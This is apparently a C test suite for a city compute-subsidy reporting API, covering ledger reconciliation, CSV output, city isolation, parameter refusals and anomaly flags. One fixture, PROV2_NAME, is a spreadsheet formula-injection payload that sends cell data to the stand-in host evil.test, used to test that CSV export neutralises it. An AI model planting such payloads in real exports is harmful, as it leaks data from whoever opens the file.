/* check_reports.c — the subsidy report and the anomaly flags: on randomised data made through
 * the API (institutes, providers in two zones, programmes in two cities, vouchers, orders paid
 * with vouchers, completions, cancellations and revocations) every grouping's rows and totals
 * equal sums computed independently in SQL from the domain tables and the ledger; the CSV
 * parses back to the same figures; bad parameters and Accept headers are refused naming what
 * is wrong; a city sees nothing of another; each anomaly flag fires on crafted data and says
 * why. */
#include "world.h"

#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define PROV2_NAME "=HYPERLINK(\"http://evil.test/?\"&A1,\"East Compute\")"

static struct world w;
static struct th_auth prov2, inst3;
static char *prov2_org, *inst3_org, *offer2;

static void build_random_money(void);
static char *prog_a, *prog_b, *hami_prog;

/* The world, and its money built at random once for every test (each runs in its own
 * process; the database is what they share). */
static void up(void) {
    world_setup(&w, "reports", WORLD_OFFER);
    /* an eastern provider whose name a spreadsheet would run as a formula, and an institute
     * whose name needs quoting in CSV */
    json_t *b =
        json_pack("{s:s, s:s, s:s}", "type", "provider", "name", PROV2_NAME, "city_id", w.city);
    char *body = json_dumps(b, JSON_COMPACT);
    json_decref(b);
    struct th_resp o = th_req(&w.srv, "POST", "/v1/organizations", &w.op, body, NULL);
    th_assert_status(&o, 201);
    prov2_org = strdup(th_str(&o, "id"));
    th_resp_free(&o);
    free(body);
    b = json_pack("{s:s, s:s, s:s}", "type", "institute", "name", "Lab, \"Quoted\" & Co", "city_id",
                  w.city);
    body = json_dumps(b, JSON_COMPACT);
    json_decref(b);
    o = th_req(&w.srv, "POST", "/v1/organizations", &w.op, body, NULL);
    th_assert_status(&o, 201);
    inst3_org = strdup(th_str(&o, "id"));
    th_resp_free(&o);
    free(body);
    th_user(&w.srv, &w.op, "provider", prov2_org, "ops@east.test", &prov2);
    th_user(&w.srv, &w.op, "institute", inst3_org, "lab@quoted.test", &inst3);
    struct th_resp r = th_req(
        &w.srv, "POST", "/v1/offers", &prov2,
        "{\"resource_class\":\"gpu\",\"accelerator\":\"A800\",\"units\":100000,"
        "\"fp16_tflops_per_unit\":312,\"memory_gib_per_unit\":80,\"region\":\"yangtze-delta\","
        "\"price_fen_per_unit_hour\":1500,\"available_from\":\"2020-01-01T00:00:00Z\","
        "\"available_until\":\"2031-01-01T00:00:00Z\",\"pue\":1.3,\"green_share\":0.4}",
        NULL);
    th_assert_status(&r, 201);
    offer2 = strdup(th_str(&r, "id"));
    th_resp_free(&r);
    build_random_money();
}

static void ledger_ok(void) {
    world_ledger_ok(&w);
}

static int down(void) {
    free(prov2_org);
    free(inst3_org);
    free(offer2);
    free(prog_a);
    free(prog_b);
    free(hami_prog);
    return world_teardown(&w);
}

/* ==== helpers ============================================================================= */

static char *path_of(const char *fmt, const char *a) {
    char *p;
    ck_assert(asprintf(&p, fmt, a) > 0);
    return p;
}

/* A reserved order paid partly by voucher (amount fen); its id, malloc'd. */
static char *paid_order(const struct th_auth *by, const char *offer, int units, int hours,
                        const char *start, const char *voucher, long long amount) {
    char end[32], body[768];
    struct tm tm = {0};
    strptime(start, "%Y-%m-%dT%H:%M:%SZ", &tm);
    time_t t = timegm(&tm) + (time_t)hours * 3600;
    gmtime_r(&t, &tm);
    strftime(end, sizeof end, "%Y-%m-%dT%H:%M:%SZ", &tm);
    snprintf(body, sizeof body,
             "{\"offer_id\":\"%s\",\"units\":%d,\"start\":\"%s\",\"end\":\"%s\","
             "\"vouchers\":[{\"voucher_id\":\"%s\",\"amount_fen\":%lld}]}",
             offer, units, start, end, voucher, amount);
    struct th_resp r = th_req(&w.srv, "POST", "/v1/orders", by, body, NULL);
    th_assert_status(&r, 201);
    char *id = strdup(th_str(&r, "id"));
    th_resp_free(&r);
    return id;
}

static void post_ok(const struct th_auth *by, const char *fmt, const char *id) {
    char *p = path_of(fmt, id);
    struct th_resp r = th_req(&w.srv, "POST", p, by, NULL, NULL);
    th_assert_status(&r, 200);
    th_resp_free(&r);
    free(p);
}

/* GET /v1/reports/subsidies?query as by, 200 expected; the caller frees. */
static struct th_resp report(const struct th_auth *by, const char *query) {
    char path[512];
    snprintf(path, sizeof path, "/v1/reports/subsidies%s%s", query ? "?" : "", query ? query : "");
    struct th_resp r = th_req(&w.srv, "GET", path, by, NULL, NULL);
    th_assert_status(&r, 200);
    return r;
}

static long long jint(json_t *o, const char *k) {
    json_t *v = json_object_get(o, k);
    ck_assert_msg(json_is_integer(v), "%s is not an integer", k);
    return (long long)json_integer_value(v);
}

static const char *const MEASURES[] = {"vouchers_issued_fen",
                                       "vouchers_issued_count",
                                       "redeemed_fen",
                                       "reversed_fen",
                                       "released_fen",
                                       "orders",
                                       "gross_fen",
                                       "subsidy_fen",
                                       "net_fen",
                                       NULL};

/* The measures computed independently in SQL for the city's programmes where cond holds (an
 * SQL condition on r (redemptions), f (offers), v (vouchers), g (programs)), as a JSON
 * object text. The ledger proves released and subsidy a second way. */
static json_t *sql_measures(const char *city, const char *vcond, const char *rcond) {
    char sql[8192];
    snprintf(
        sql, sizeof sql,
        "SELECT json_build_object("
        "'vouchers_issued_fen', (SELECT coalesce(sum(v.face_value_fen), 0) FROM vouchers v "
        "  JOIN programs g ON g.id = v.program_id WHERE v.city_id = '%1$s' AND %2$s),"
        "'vouchers_issued_count', (SELECT count(*) FROM vouchers v "
        "  JOIN programs g ON g.id = v.program_id WHERE v.city_id = '%1$s' AND %2$s),"
        "'redeemed_fen', (SELECT coalesce(sum(r.amount_fen), 0) FROM redemptions r JOIN orders o "
        "  ON o.id = r.order_id JOIN offers f ON f.id = o.offer_id WHERE r.city_id = '%1$s' AND "
        "%3$s),"
        "'reversed_fen', (SELECT coalesce(sum(r.amount_fen), 0) FROM redemptions r JOIN orders o "
        "  ON o.id = r.order_id JOIN offers f ON f.id = o.offer_id WHERE r.city_id = '%1$s' "
        "  AND r.status = 'reversed' AND %3$s),"
        "'released_fen', (SELECT coalesce(sum(v.released_fen - (SELECT coalesce(sum(x.amount_fen), "
        "0) "
        "  FROM redemptions x WHERE x.voucher_id = v.id AND x.reversed_to = 'program')), 0) "
        "  FROM vouchers v JOIN programs g ON g.id = v.program_id WHERE v.city_id = '%1$s' AND "
        "%2$s)"
        "  + (SELECT coalesce(sum(r.amount_fen), 0) FROM redemptions r JOIN orders o ON o.id = "
        "r.order_id "
        "  JOIN offers f ON f.id = o.offer_id WHERE r.city_id = '%1$s' AND r.reversed_to = "
        "'program' AND %3$s),"
        "'orders', (SELECT count(DISTINCT o.id) FROM redemptions r JOIN orders o ON o.id = "
        "r.order_id "
        "  JOIN offers f ON f.id = o.offer_id WHERE r.city_id = '%1$s' AND o.status <> 'cancelled' "
        "AND %3$s),"
        "'gross_fen', (SELECT coalesce(sum(o.gross_fen), 0) FROM orders o JOIN offers f ON f.id = "
        "o.offer_id "
        "  WHERE o.status <> 'cancelled' AND o.id IN (SELECT r.order_id FROM redemptions r "
        "  WHERE r.city_id = '%1$s' AND %3$s)),"
        "'subsidy_fen', (SELECT coalesce(sum(r.amount_fen), 0) FROM redemptions r JOIN orders o "
        "  ON o.id = r.order_id JOIN offers f ON f.id = o.offer_id WHERE r.city_id = '%1$s' "
        "  AND r.status = 'applied' AND %3$s),"
        "'net_fen', (SELECT coalesce(sum(o.net_fen), 0) FROM orders o JOIN offers f ON f.id = "
        "o.offer_id "
        "  WHERE o.status <> 'cancelled' AND o.id IN (SELECT r.order_id FROM redemptions r "
        "  WHERE r.city_id = '%1$s' AND %3$s)))::text",
        city, vcond, rcond);
    char *text = th_sql(w.dburl, sql);
    ck_assert_ptr_nonnull(text);
    json_t *j = json_loads(text, 0, NULL);
    ck_assert_ptr_nonnull(j);
    free(text);
    return j;
}

static void assert_measures(json_t *got, json_t *want, const char *what) {
    for (const char *const *m = MEASURES; *m; m++)
        ck_assert_msg(jint(got, *m) == jint(want, *m), "%s: %s is %lld, SQL says %lld", what, *m,
                      jint(got, *m), jint(want, *m));
}

/* ==== randomised data ===================================================================== */

static unsigned seed;

static const char *months[] = {"2030-01-01T00:00:00Z", "2025-06-01T00:00:00Z"};

/* Builds the world's money at random (seeded, the seed is printed): two Chengdu programmes,
 * vouchers for three institutes, orders on both providers paid by vouchers, some completed,
 * some cancelled, some vouchers revoked (before and after a cancellation); and a Hami
 * programme with its own voucher and order. */
static void build_random_money(void) {
    seed = (unsigned)time(NULL);
    fprintf(stderr, "check_reports: random seed %u\n", seed);
    srand(seed);
    prog_a = world_program(&w, NULL);
    prog_b = world_program(&w, "{\"max_subsidy_bp\":8000}");
    const struct th_auth *insts[] = {&w.inst, &w.inst2, &inst3};
    const char *orgs[] = {w.inst_org, w.inst2_org, inst3_org};
    char *vouchers[9];
    long long balance[9];
    for (int i = 0; i < 9; i++) {
        balance[i] = 20000 + rand() % 200000;
        vouchers[i] = world_voucher_id(&w, i % 2 ? prog_b : prog_a, orgs[i % 3], balance[i]);
    }
    char start[32];
    for (int k = 0; k < 24; k++) {
        int i = rand() % 9;
        bool east = rand() % 2;
        int units = 1 + rand() % 4, hours = 1 + rand() % 12;
        long long gross = (long long)units * hours * (east ? 1500 : 2000);
        long long room = gross * (i % 2 ? 8000 : 5000) / 10000;
        if (balance[i] == 0 || room == 0)
            continue;
        long long amount = 1 + rand() % (room < balance[i] ? room : balance[i]);
        bool past = rand() % 2;
        snprintf(start, sizeof start, "%.11s%02d:00:00Z", months[past], k % 20);
        char *o = paid_order(insts[i % 3], east ? offer2 : w.offer, units, hours, start,
                             vouchers[i], amount);
        balance[i] -= amount;
        int fate = rand() % 4;
        if (fate == 0 && !past) {
            post_ok(insts[i % 3], "/v1/orders/%s/cancel", o);
            balance[i] += amount;
        } else if (fate == 1 && past) {
            post_ok(east ? &prov2 : &w.prov, "/v1/orders/%s/complete", o);
        } else if (fate == 2 && balance[i] > 0) {
            /* revoked, then the order cancelled: its amount returns to the programme */
            post_ok(&w.admin, "/v1/vouchers/%s/revoke", vouchers[i]);
            balance[i] = 0;
            if (!past && rand() % 2)
                post_ok(insts[i % 3], "/v1/orders/%s/cancel", o);
        }
        free(o);
    }
    for (int i = 0; i < 9; i++)
        free(vouchers[i]);

    struct th_resp r = th_req(&w.srv, "POST", "/v1/programs", &w.other_admin,
                              "{\"name\":\"Hami 2030\",\"budget_fen\":5000000,"
                              "\"ends_at\":\"2030-06-01T00:00:00Z\",\"max_subsidy_bp\":5000}",
                              NULL);
    th_assert_status(&r, 201);
    hami_prog = strdup(th_str(&r, "id"));
    th_resp_free(&r);
    char body[256];
    snprintf(body, sizeof body,
             "{\"institute_id\":\"%s\",\"face_value_fen\":77777,\"expires_at\":\"2030-01-01T00:00:"
             "00Z\"}",
             w.other_inst_org);
    r = world_issue(&w, NULL, &w.other_admin, hami_prog, body, NULL);
    th_assert_status(&r, 201);
    char *hv = strdup(th_str(&r, "id"));
    th_resp_free(&r);
    free(paid_order(&w.other_inst, w.offer, 1, 10, "2030-03-01T00:00:00Z", hv, 5555));
    free(hv);
    world_ledger_ok(&w);
}

/* ==== the report ========================================================================== */

/* Sums of the rows equal the totals, and the totals equal SQL. */
static void check_grouping(const char *group_by) {
    char q[128];
    snprintf(q, sizeof q, "group_by=%s", group_by);
    struct th_resp r = report(&w.admin, q);
    json_t *items = json_object_get(r.json, "items"), *item;
    json_t *totals = json_object_get(r.json, "totals");
    json_t *want = sql_measures(w.city, "true", "true");
    assert_measures(totals, want, group_by);
    ck_assert_int_gt(json_array_size(items), 0);
    size_t i;
    for (const char *const *m = MEASURES; *m; m++) {
        long long sum = 0;
        json_array_foreach(items, i, item) sum += jint(item, *m);
        /* one voucher per order: every order falls in one row of any grouping */
        ck_assert_msg(sum == jint(totals, *m), "group_by=%s: rows of %s sum to %lld, total %lld",
                      group_by, *m, sum, jint(totals, *m));
    }
    json_decref(want);
    th_resp_free(&r);
}

/* Each row of a one-key grouping equals SQL restricted to its key. */
static void check_rows(const char *group, const char *key, const char *vcol, const char *rcol) {
    char q[64];
    snprintf(q, sizeof q, "group_by=%s", group);
    struct th_resp r = report(&w.admin, q);
    json_t *item;
    size_t i;
    json_array_foreach(json_object_get(r.json, "items"), i, item) {
        json_t *k = json_object_get(item, key);
        char vcond[256], rcond[256], what[128];
        if (json_is_null(k)) {
            snprintf(vcond, sizeof vcond, "%s", vcol ? "false" : "true");
            snprintf(rcond, sizeof rcond, "false");
        } else {
            snprintf(vcond, sizeof vcond, vcol ? "%s = '%s'" : "false", vcol, json_string_value(k));
            snprintf(rcond, sizeof rcond, "%s = '%s'", rcol, json_string_value(k));
        }
        snprintf(what, sizeof what, "%s %s", group,
                 json_is_null(k) ? "null" : json_string_value(k));
        json_t *want = sql_measures(w.city, vcond, rcond);
        assert_measures(item, want, what);
        json_decref(want);
    }
    th_resp_free(&r);
}

START_TEST(totals_of_every_grouping_reconcile_with_the_ledger) {
    const char *groupings[] = {"program",
                               "institute",
                               "provider",
                               "region",
                               "zone",
                               "month",
                               "program,month",
                               "zone,institute",
                               "provider,region,program",
                               "program,institute,provider,region,zone,month"};
    for (size_t i = 0; i < sizeof groupings / sizeof groupings[0]; i++)
        check_grouping(groupings[i]);
    check_rows("program", "program_id", "v.program_id", "r.program_id");
    check_rows("institute", "institute_id", "v.institute_id", "r.institute_id");
    check_rows("provider", "provider_id", NULL, "f.provider_id");
    check_rows("region", "region", NULL, "f.region");
    check_rows("zone", "zone", NULL, "f.zone");

    /* no grouping: one row, the totals; and the totals against the ledger itself */
    struct th_resp r = report(&w.admin, NULL);
    json_t *totals = json_object_get(r.json, "totals");
    ck_assert_int_eq(json_array_size(json_object_get(r.json, "items")), 1);
    char sql[1024];
    snprintf(
        sql, sizeof sql,
        "SELECT coalesce(sum(lp.amount_fen) FILTER (WHERE lp.account_kind IN ('order_subsidy', "
        "'provider_receivable')), 0) || '/' || coalesce(sum(lp.amount_fen) FILTER (WHERE "
        "lp.account_kind = 'program_budget' AND e.kind IN ('release', 'reverse')), 0) || '/' || "
        "coalesce(-sum(lp.amount_fen) FILTER (WHERE lp.account_kind = 'program_budget' AND "
        "e.kind = 'issue'), 0) FROM ledger_postings lp JOIN ledger_entries e ON e.id = lp.entry_id "
        "JOIN programs g ON g.id = lp.program_id WHERE g.city_id = '%s'",
        w.city);
    char *ledger = th_sql(w.dburl, sql);
    char mine[128];
    snprintf(mine, sizeof mine, "%lld/%lld/%lld", jint(totals, "subsidy_fen"),
             jint(totals, "released_fen"), jint(totals, "vouchers_issued_fen"));
    ck_assert_str_eq(mine, ledger);
    free(ledger);
    th_resp_free(&r);

    /* the auditor of the city sees the same; the operator sees both cities */
    struct th_resp a = report(&w.admin, "group_by=program");
    struct th_resp b = report(&w.auditor, "group_by=program");
    char *ja = json_dumps(json_object_get(a.json, "items"), JSON_SORT_KEYS);
    char *jb = json_dumps(json_object_get(b.json, "items"), JSON_SORT_KEYS);
    ck_assert_str_eq(ja, jb);
    free(ja);
    free(jb);
    struct th_resp o = report(&w.op, "group_by=program");
    json_t *hami = sql_measures(w.other_city, "true", "true");
    ck_assert_int_eq(jint(json_object_get(o.json, "totals"), "subsidy_fen"),
                     jint(json_object_get(a.json, "totals"), "subsidy_fen") +
                         jint(hami, "subsidy_fen"));
    ck_assert_int_eq(json_array_size(json_object_get(o.json, "items")),
                     json_array_size(json_object_get(a.json, "items")) + 1);
    json_decref(hami);
    th_resp_free(&a);
    th_resp_free(&b);
    th_resp_free(&o);
}
END_TEST

START_TEST(a_city_sees_nothing_of_another) {
    struct th_resp r = report(&w.other_admin, "group_by=program,institute,provider");
    json_t *item;
    size_t i;
    ck_assert_int_gt(json_array_size(json_object_get(r.json, "items")), 0);
    json_array_foreach(json_object_get(r.json, "items"), i, item) {
        ck_assert_str_eq(json_string_value(json_object_get(item, "program_id")), hami_prog);
        ck_assert_str_eq(json_string_value(json_object_get(item, "institute_id")),
                         w.other_inst_org);
    }
    json_t *want = sql_measures(w.other_city, "true", "true");
    assert_measures(json_object_get(r.json, "totals"), want, "Hami");
    ck_assert_int_eq(jint(want, "subsidy_fen"), 5555);
    ck_assert_int_eq(jint(want, "vouchers_issued_fen"), 77777);
    json_decref(want);
    th_resp_free(&r);

    /* roles outside the city's office may not read reports */
    r = th_req(&w.srv, "GET", "/v1/reports/subsidies", &w.inst, NULL, NULL);
    th_assert_problem(&r, 403, "forbidden");
    th_resp_free(&r);
    r = th_req(&w.srv, "GET", "/v1/reports/anomalies", &w.prov, NULL, NULL);
    th_assert_problem(&r, 403, "forbidden");
    th_resp_free(&r);
    char *p = path_of("/v1/reports/anomalies?program_id=%s", hami_prog);
    r = th_req(&w.srv, "GET", p, &w.admin, NULL, NULL);
    th_assert_problem(&r, 404, "not-found");
    th_resp_free(&r);
    free(p);
}
END_TEST

START_TEST(a_time_range_selects_movements_by_when_they_happened) {
    char q[256], from[32], to[32];
    snprintf(q, sizeof q, "group_by=month&from=%s&to=%s", world_time(from, -3600),
             world_time(to, 3600));
    struct th_resp all = report(&w.admin, "group_by=month");
    struct th_resp now = report(&w.admin, q);
    ck_assert_int_eq(jint(json_object_get(now.json, "totals"), "subsidy_fen"),
                     jint(json_object_get(all.json, "totals"), "subsidy_fen"));
    ck_assert_int_eq(strncmp(json_string_value(json_object_get(now.json, "from")), from, 19), 0);
    th_resp_free(&now);
    th_resp_free(&all);
    snprintf(q, sizeof q, "from=%s", world_time(from, 3600));
    struct th_resp later = report(&w.admin, q);
    ck_assert_int_eq(json_array_size(json_object_get(later.json, "items")), 0);
    ck_assert_int_eq(jint(json_object_get(later.json, "totals"), "vouchers_issued_fen"), 0);
    ck_assert_int_eq(jint(json_object_get(later.json, "totals"), "orders"), 0);
    th_resp_free(&later);
}
END_TEST

/* ==== CSV ================================================================================= */

/* Parses RFC 4180 text (CRLF records, quoted fields) into an array of arrays of strings. */
static json_t *csv_parse(const char *s) {
    json_t *rows = json_array(), *row = json_array();
    char field[1024];
    size_t n = 0;
    for (;;) {
        if (*s == '"') {
            for (s++;; s++) {
                ck_assert_msg(*s != '\0', "unterminated quoted field");
                if (*s == '"' && s[1] == '"')
                    field[n++] = *s++;
                else if (*s == '"')
                    break;
                else
                    field[n++] = *s;
            }
            s++;
        } else {
            while (*s && *s != ',' && *s != '\r' && *s != '\n')
                field[n++] = *s++;
        }
        field[n] = '\0';
        json_array_append_new(row, json_string(field));
        n = 0;
        if (*s == ',') {
            s++;
            continue;
        }
        ck_assert_msg(s[0] == '\r' && s[1] == '\n', "a record must end in CRLF");
        json_array_append_new(rows, row);
        s += 2;
        if (*s == '\0')
            break;
        row = json_array();
    }
    return rows;
}

START_TEST(csv_parses_back_to_the_same_figures) {
    const char *hdr[] = {"Accept: text/csv", NULL};
    struct th_resp c = th_req(&w.srv, "GET", "/v1/reports/subsidies?group_by=institute,month",
                              &w.admin, NULL, hdr);
    th_assert_status(&c, 200);
    char *ctype = th_header(&c, "Content-Type");
    ck_assert_ptr_nonnull(strstr(ctype, "text/csv"));
    free(ctype);
    struct th_resp j = report(&w.admin, "group_by=institute,month");
    json_t *rows = csv_parse(c.body);
    json_t *head = json_array_get(rows, 0);
    json_t *items = json_object_get(j.json, "items");
    ck_assert_int_eq(json_array_size(rows), json_array_size(items) + 1);
    ck_assert_str_eq(json_string_value(json_array_get(head, 0)), "institute_id");
    ck_assert_str_eq(json_string_value(json_array_get(head, 1)), "institute_name");
    ck_assert_str_eq(json_string_value(json_array_get(head, 2)), "month");
    bool quoted_seen = false;
    for (size_t i = 0; i < json_array_size(items); i++) {
        json_t *item = json_array_get(items, i), *row = json_array_get(rows, i + 1);
        ck_assert_int_eq(json_array_size(row), json_array_size(head));
        for (size_t k = 0; k < json_array_size(head); k++) {
            const char *col = json_string_value(json_array_get(head, k));
            const char *cell = json_string_value(json_array_get(row, k));
            json_t *v = json_object_get(item, col);
            char num[32];
            if (json_is_integer(v)) {
                snprintf(num, sizeof num, "%lld", (long long)json_integer_value(v));
                ck_assert_str_eq(cell, num);
            } else if (json_is_string(v)) {
                ck_assert_str_eq(cell, json_string_value(v));
            } else {
                ck_assert_str_eq(cell, "");
            }
            if (strcmp(cell, "Lab, \"Quoted\" & Co") == 0)
                quoted_seen = true;
        }
    }
    ck_assert_msg(quoted_seen, "the institute whose name needs quoting is in the CSV");
    ck_assert_ptr_nonnull(strstr(c.body, "\"Lab, \"\"Quoted\"\" & Co\""));
    json_decref(rows);
    th_resp_free(&j);
    th_resp_free(&c);
}
END_TEST

START_TEST(csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe) {
    const char *hdr[] = {"Accept: text/csv", NULL};
    struct th_resp c = th_req(&w.srv, "GET", "/v1/reports/subsidies?group_by=provider,program",
                              &w.admin, NULL, hdr);
    th_assert_status(&c, 200);
    json_t *rows = csv_parse(c.body);
    bool seen = false;
    for (size_t i = 0; i < json_array_size(rows); i++) {
        json_t *row = json_array_get(rows, i);
        for (size_t k = 0; k < json_array_size(row); k++) {
            const char *cell = json_string_value(json_array_get(row, k));
            ck_assert_msg(cell[0] == '\0' || strchr("=+@\t\r", cell[0]) == NULL,
                          "a CSV cell begins with a formula character: %s", cell);
            if (cell[0] == '-') /* only a number may begin with a minus */
                ck_assert_msg(strspn(cell + 1, "0123456789") == strlen(cell + 1), "cell %s", cell);
            if (strcmp(cell, "'" PROV2_NAME) == 0)
                seen = true;
        }
    }
    ck_assert_msg(seen, "the provider's name is in the CSV with an apostrophe before it");
    json_decref(rows);
    th_resp_free(&c);
    /* the JSON report carries the name as it is */
    struct th_resp j = report(&w.admin, "group_by=provider");
    ck_assert_ptr_nonnull(strstr(j.body, "\"=HYPERLINK("));
    th_resp_free(&j);
}
END_TEST

/* ==== refusals ============================================================================ */

START_TEST(bad_parameters_and_accept_headers_are_refused_naming_them) {
    struct {
        const char *query, *accept;
        long status;
        const char *slug, *field;
    } cases[] = {
        {"group_by=programme", NULL, 400, "invalid-query", "group_by"},
        {"group_by=program,program", NULL, 400, "invalid-query", "group_by"},
        {"group_by=", NULL, 400, "invalid-query", "group_by"},
        {"group_by=month,", NULL, 400, "invalid-query", "group_by"},
        {"from=yesterday", NULL, 400, "invalid-query", "from"},
        {"to=2026-11-28", NULL, 400, "invalid-query", "to"},
        {"to=2020-01-01T00:00:00Z&from=2021-01-01T00:00:00Z", NULL, 400, "invalid-query", NULL},
        {"city=x", NULL, 400, "invalid-query", "city"},
        {"group_by=month", "application/xml", 406, "not-acceptable", NULL},
        {"group_by=month", "text/csv;q=0, application/pdf", 406, "not-acceptable", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char path[256], accept[128];
        snprintf(path, sizeof path, "/v1/reports/subsidies?%s", cases[i].query);
        snprintf(accept, sizeof accept, "Accept: %s", cases[i].accept ? cases[i].accept : "");
        const char *hdr[] = {accept, NULL};
        struct th_resp r =
            th_req(&w.srv, "GET", path, &w.admin, NULL, cases[i].accept ? hdr : NULL);
        th_assert_problem(&r, cases[i].status, cases[i].slug);
        if (cases[i].field != NULL) {
            json_t *e = json_array_get(json_object_get(r.json, "errors"), 0);
            ck_assert_msg(e != NULL, "%s: no errors[]", cases[i].query);
            ck_assert_str_eq(json_string_value(json_object_get(e, "field")), cases[i].field);
        }
        th_resp_free(&r);
    }
    const char *bad[] = {"/v1/reports/anomalies?program_id=42", "/v1/reports/anomalies?limit=0",
                         "/v1/reports/anomalies?limit=201", "/v1/reports/anomalies?kind=burst"};
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        struct th_resp r = th_req(&w.srv, "GET", bad[i], &w.admin, NULL, NULL);
        th_assert_problem(&r, 400, "invalid-query");
        th_resp_free(&r);
    }
    /* the wildcard and JSON itself are acceptable */
    const char *any[] = {"Accept: */*", NULL};
    struct th_resp r = th_req(&w.srv, "GET", "/v1/reports/subsidies", &w.admin, NULL, any);
    th_assert_status(&r, 200);
    ck_assert_ptr_nonnull(json_object_get(r.json, "totals"));
    th_resp_free(&r);
}
END_TEST

/* ==== anomalies =========================================================================== */

static json_t *find_flag(json_t *items, const char *kind, const char *subject) {
    json_t *f;
    size_t i;
    json_array_foreach(items, i, f) {
        if (strcmp(json_string_value(json_object_get(f, "kind")), kind) == 0 &&
            strcmp(json_string_value(json_object_get(f, "subject_id")), subject) == 0)
            return f;
    }
    return NULL;
}

START_TEST(each_anomaly_fires_on_crafted_data_and_says_why) {
    char *p = world_program(&w, NULL);
    char *big = world_voucher_id(&w, p, inst3_org, 10000000);
    char *small = world_voucher_id(&w, p, w.inst2_org, 10000);
    /* inst3: 12 orders with redemptions inside an hour (none before), 3 of them cancelled */
    for (int k = 0; k < 12; k++) {
        char start[32];
        snprintf(start, sizeof start, "2030-04-%02dT00:00:00Z", k + 1);
        char *o = paid_order(&inst3, w.offer, 10, 10, start, big, 50000);
        if (k < 3)
            post_ok(&inst3, "/v1/orders/%s/cancel", o);
        free(o);
    }
    free(paid_order(&w.inst2, offer2, 1, 10, "2030-04-01T00:00:00Z", small, 1000));

    char *path = path_of("/v1/reports/anomalies?program_id=%s", p);
    struct th_resp r = th_req(&w.srv, "GET", path, &w.auditor, NULL, NULL);
    th_assert_status(&r, 200);
    json_t *items = json_object_get(r.json, "items");
    json_t *rules = json_object_get(r.json, "rules");
    const char *kinds[] = {"institute_share", "provider_share", "redeem_then_cancel", "burst"};
    const char *subjects[] = {inst3_org, w.prov_org, inst3_org, inst3_org};
    for (int k = 0; k < 4; k++) {
        json_t *f = find_flag(items, kinds[k], subjects[k]);
        ck_assert_msg(f != NULL, "no %s flag in %s", kinds[k], r.body);
        ck_assert_int_gt(strlen(json_string_value(json_object_get(f, "explanation"))), 20);
        ck_assert_int_gt(strlen(json_string_value(json_object_get(f, "detail"))), 10);
        ck_assert_str_eq(json_string_value(json_object_get(f, "explanation")),
                         json_string_value(json_object_get(rules, kinds[k])));
    }
    /* 9 applied redemptions of 50 000 against 1 000: inst3 holds 99.77 % */
    json_t *share = find_flag(items, "institute_share", inst3_org);
    ck_assert_int_eq(jint(json_object_get(share, "measure"), "share_bp"),
                     450000LL * 10000 / 451000);
    ck_assert_int_eq(
        jint(json_object_get(find_flag(items, "redeem_then_cancel", inst3_org), "measure"),
             "cancelled_orders"),
        3);
    ck_assert_int_eq(
        jint(json_object_get(find_flag(items, "burst", inst3_org), "measure"), "last_hour"), 12);
    /* the small institute and the eastern provider raise nothing */
    ck_assert_ptr_null(find_flag(items, "burst", w.inst2_org));
    ck_assert_ptr_null(find_flag(items, "provider_share", prov2_org));
    ck_assert_ptr_null(find_flag(items, "institute_share", w.inst2_org));
    th_resp_free(&r);

    /* another city's administrator sees none of it */
    r = th_req(&w.srv, "GET", "/v1/reports/anomalies", &w.other_admin, NULL, NULL);
    th_assert_status(&r, 200);
    ck_assert_ptr_null(find_flag(json_object_get(r.json, "items"), "burst", inst3_org));
    th_resp_free(&r);
    /* limit caps the list */
    r = th_req(&w.srv, "GET", "/v1/reports/anomalies?limit=1", &w.admin, NULL, NULL);
    th_assert_status(&r, 200);
    ck_assert_int_eq(json_array_size(json_object_get(r.json, "items")), 1);
    th_resp_free(&r);
    free(path);
    free(big);
    free(small);
    free(p);
}
END_TEST

int main(void) {
    if (sodium_init() < 0)
        return 1;
    Suite *s = suite_create("reports");
    th_shared(up, down);
    th_case(s, totals_of_every_grouping_reconcile_with_the_ledger, 600, NULL, ledger_ok);
    th_case(s, a_city_sees_nothing_of_another, 600, NULL, ledger_ok);
    th_case(s, a_time_range_selects_movements_by_when_they_happened, 600, NULL, ledger_ok);
    th_case(s, csv_parses_back_to_the_same_figures, 600, NULL, ledger_ok);
    th_case(s, csv_cells_that_a_spreadsheet_would_run_as_formulas_begin_with_an_apostrophe, 600,
            NULL, ledger_ok);
    th_case(s, bad_parameters_and_accept_headers_are_refused_naming_them, 600, NULL, ledger_ok);
    th_case(s, each_anomaly_fires_on_crafted_data_and_says_why, 600, NULL, ledger_ok);
    return th_run(s);
}
